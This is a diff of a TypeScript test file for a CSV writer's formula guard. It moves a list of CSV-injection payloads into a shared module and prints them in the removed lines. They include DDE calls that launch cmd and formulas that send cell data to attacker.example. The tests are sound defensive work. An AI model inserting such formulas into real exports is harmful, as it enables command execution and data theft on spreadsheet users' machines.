@@ -8,6 +8,7 @@ import { findPlace } from '../../src/io/out-place.ts';
 import { csvWriter } from '../../src/io/write-csv.ts';
 import { guarded, isGuarded, isRunnable } from '../../src/values/formula-guard.ts';
 import { testFolder, textsOf } from '../support/out-files.ts';
+import { RUN, TEXT_AS_IT_IS } from '../support/payloads.ts';
 
 const folder = testFolder();
 let count = 0;
@@ -25,28 +26,6 @@ async function written(rows: readonly (readonly string[])[], delimiter: ',' | '\
   return join(place.path, name);
 }
 
-/** Payloads as lists of CSV injection give them, and what only looks like one. */
-const RUN = [
-  '=1+1',
-  "=cmd|' /C calc'!A0",
-  '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
-  '=IMPORTXML("http://attacker.example","//a")',
-  '=WEBSERVICE("http://attacker.example")',
-  '=DDE("cmd";"/C calc";"x")',
-  '+1+1',
-  "+cmd|' /C notepad'!A1",
-  '-1+1',
-  "-2+3+cmd|' /C calc'!D2",
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  '@A1',
-  '\t=1+1',
-  '\r=1+1',
-  '-',
-  '=',
-  '@',
-  "'=1+1",
-];
-const TEXT_AS_IT_IS = ['+13125550100', '+1 312 555 0100', '-MADEUP-1', '-0012', '-12 units', '-1,234.56'];
 const PLAIN = [
   '-12.50',
   '-3',
